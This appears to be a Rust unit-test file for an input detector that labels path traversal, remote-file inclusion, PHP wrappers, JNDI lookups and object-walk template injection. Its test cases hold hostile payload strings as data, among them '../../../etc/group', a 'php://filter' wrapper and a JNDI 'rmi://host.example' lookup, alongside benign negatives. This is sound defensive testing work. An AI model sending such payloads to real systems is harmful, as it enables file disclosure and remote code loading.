//! Files, addresses, lookups and objects that a value names.

use detect::structure::shell::{Shell, read};

fn check(text: &str, wanted: &[&str]) {
    let mut steps = 0;
    let found = read(text.as_bytes(), &mut steps);
    let of_files = 21..Shell::NAMES.len();
    let names: Vec<&str> =
        of_files.filter(|at| found.0 >> at & 1 == 1).map(|at| Shell::NAMES[at]).collect();
    assert_eq!(names, wanted, "{text:?}");
}

#[test]
fn paths_count_by_where_they_lead() {
    for (text, wanted) in [
        ("../../../etc/group", &["shell.climb", "shell.system_file"][..]),
        ("a/.../.../x", &["shell.climb", "shell.odd_climb"]),
        ("/0x2e0x2e/0x2e0x2e/x", &["shell.climb", "shell.odd_climb"]),
        ("/var/log/mail.err", &["shell.system_file", "shell.whole_path"]),
        ("c:\\boot.ini", &["shell.system_file"]),
        ("/usr/share/q", &["shell.whole_path"]),
        ("../sibling.html", &[]),
        ("src/etc.rs and so on ... / more", &[]),
        ("windows/linux", &[]),
        ("/blog/home/page", &[]),
    ] {
        check(text, wanted);
    }
}

#[test]
fn addresses_count_if_a_program_would_run_what_is_there() {
    for (text, wanted) in [
        ("http://198.18.0.4/q/tool.txt", &["shell.remote_script", "shell.remote_number"][..]),
        ("https://host.example/run.php?", &["shell.remote_script"]),
        ("php://filter/resource=q.php", &["shell.wrapper"]),
        ("http://example.org/story.php", &[]),
        ("see http://198.18.0.4/tool.txt", &[]),
    ] {
        check(text, wanted);
    }
}

#[test]
fn lookups_and_objects_count_where_they_lead_to_code() {
    for (text, wanted) in [
        ("${lower:q}", &["shell.lookup"][..]),
        ("${q:-${jndi:rmi://host.example/a}}", &["shell.lookup"]),
        ("''.__class__.__mro__", &["shell.object_walk"]),
        ("new java.lang.string()", &["shell.object_walk"]),
        ("${name}", &[]),
        ("__main__ of a module", &[]),
    ] {
        check(text, wanted);
    }
}
